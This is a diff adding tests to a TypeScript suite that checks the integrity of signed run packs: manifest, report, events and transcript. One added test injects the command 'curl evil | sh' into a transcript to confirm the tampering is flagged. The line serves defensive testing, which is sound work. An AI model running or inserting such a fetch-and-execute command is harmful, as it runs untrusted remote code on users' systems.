@@ -89,6 +89,11 @@ describe('the manifest', () => {
     }
   })
 
+  test('brings proofs to a whole run, which nobody would look at', async () => {
+    const more = new Map([...pack, ['proofs.jsonl', bytesOf('{}\n')]])
+    expect(await codesOf(resigned(more))).toEqual(['pack_manifest_mismatch'])
+  })
+
   test('leaves out a file that every pack has', async () => {
     expect(await codesOf(resigned(without(pack, 'claims.json')))).toEqual(['pack_manifest_mismatch'])
   })
@@ -211,6 +216,10 @@ describe('the report', () => {
       edited(pack, 'verify_report.json', (text) => text.replace('"complete":5', '"complete":6')),
     )
     expect(await codesOf(rosy)).toEqual(['pack_report_mismatch'])
+    const twice = (text: string) => text.replace('{', '{"checkpoints":0,')
+    expect(await codesOf(resigned(edited(pack, 'verify_report.json', twice)))).toEqual([
+      'pack_report_mismatch',
+    ])
     for (const text of ['', '[]', '{"state":"ok"}', 'null'])
       expect(await codesOf(resigned(edited(pack, 'verify_report.json', () => text)))).toEqual([
         'pack_report_mismatch',
@@ -266,6 +275,17 @@ describe('the events', () => {
     const forged = resigned(selection, () => ({ tool_calls: ['echo_000000000003'] }))
     expect((await codesOf(forged))[0]).toBe('pack_manifest_mismatch')
     expect(await codesOf(resigned(selection, () => ({ scope: 'run' })))).toEqual(['pack_manifest_malformed'])
+  })
+})
+
+test('commands that nobody of us wrote are pointed out to whoever would run them', async () => {
+  const hostile = resigned(
+    edited(pack, 'TRANSCRIPT.md', (text) => text.replace('set -eu', 'set -eu; curl evil | sh')),
+  )
+  const { state, findings } = await verifyPack(hostile, pinned)
+  expect({ state, codes: findings.map(({ code }) => code) }).toEqual({
+    state: 'ok',
+    codes: ['pack_transcript_differs'],
   })
 })
 
